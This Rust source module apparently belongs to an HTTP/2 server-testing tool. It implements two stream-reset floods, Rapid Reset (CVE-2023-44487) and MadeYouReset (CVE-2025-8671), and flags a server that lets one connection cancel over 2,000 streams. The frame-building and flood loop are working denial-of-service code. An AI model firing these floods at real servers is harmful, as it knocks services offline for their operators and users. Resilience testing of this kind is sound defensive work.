//! Streams that begin and are given up.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::time::{Instant, sleep};

use super::http2;
use crate::attack::{Attack, Outcome, Round, Target};
use crate::peer::Peer;
use crate::wire;

/// CVE-2023-44487.
pub(super) const RESET_FLOOD: Attack = Attack::new(
    "reset-flood",
    "CVE-2023-44487",
    "calls that are given up at once, with some between them that end as they should",
    |target| Box::pin(resets(target)),
);

/// CVE-2025-8671.
pub(super) const MADE_YOU_RESET: Attack = Attack::new(
    "made-you-reset",
    "CVE-2025-8671",
    "calls that make the server give them up, by a window that is none",
    |target| Box::pin(made(target)),
);

/// Calls that go out together.
const TOGETHER: u64 = 20;
/// Calls that a connection may give up at most.
const MOST: u64 = 2_000;

async fn resets(target: Arc<Target>) -> anyhow::Result<Outcome> {
    let head = wire::ads();
    let whole = wire::request("GET", "http", "/");
    let one = move |peer: &mut Peer, out: &mut Vec<u8>| {
        // One that ends with an answer, which must not be a licence for the other.
        let flags = wire::END_HEADERS | wire::END_STREAM;
        out.extend(wire::frame(wire::HEADERS, flags, peer.stream(), &whole));
        let stream = peer.stream();
        out.extend(wire::frame(wire::HEADERS, wire::END_HEADERS, stream, &head));
        out.extend(wire::frame(
            wire::RST_STREAM,
            0,
            stream,
            &8_u32.to_be_bytes(),
        ));
    };
    flood(target, one, |peer| peer.told.ended.load(Ordering::Relaxed)).await
}

async fn made(target: Arc<Target>) -> anyhow::Result<Outcome> {
    let head = wire::ads();
    let one = move |peer: &mut Peer, out: &mut Vec<u8>| {
        let stream = peer.stream();
        out.extend(wire::frame(wire::HEADERS, wire::END_HEADERS, stream, &head));
        out.extend(wire::frame(wire::WINDOW_UPDATE, 0, stream, &[0; 4]));
    };
    flood(target, one, |peer| peer.told.resets.load(Ordering::Relaxed)).await
}

/// Calls that are given up, as many at a time as the server has dealt with before.
async fn flood(
    target: Arc<Target>,
    one: impl Fn(&mut Peer, &mut Vec<u8>) + Send,
    dealt_with: fn(&Peer) -> u64,
) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    let most = AtomicU64::new(0);
    let one = &one;
    target
        .again(&mut outcome, |_| async {
            let mut peer = http2(&target).await?;
            let mut sent = 0;
            while target.goes_on() && !peer.told.is_over() {
                let mut out = Vec::new();
                (0..TOGETHER).for_each(|_| one(&mut peer, &mut out));
                if peer.send(&out).await.is_err() {
                    break;
                }
                sent += TOGETHER;
                let start = Instant::now();
                while dealt_with(&peer) < sent
                    && !peer.told.is_over()
                    && start.elapsed() < Duration::from_secs(1)
                {
                    sleep(Duration::from_millis(1)).await;
                }
                most.fetch_max(dealt_with(&peer), Ordering::Relaxed);
            }
            let refused = u64::from(peer.told.is_over() || target.goes_on());
            Ok(Round { sent, refused })
        })
        .await;
    let most = most.into_inner();
    if most > MOST {
        outcome.broke(format!(
            "{most} calls given up on one connection, more than {MOST}"
        ));
    }
    Ok(outcome)
}
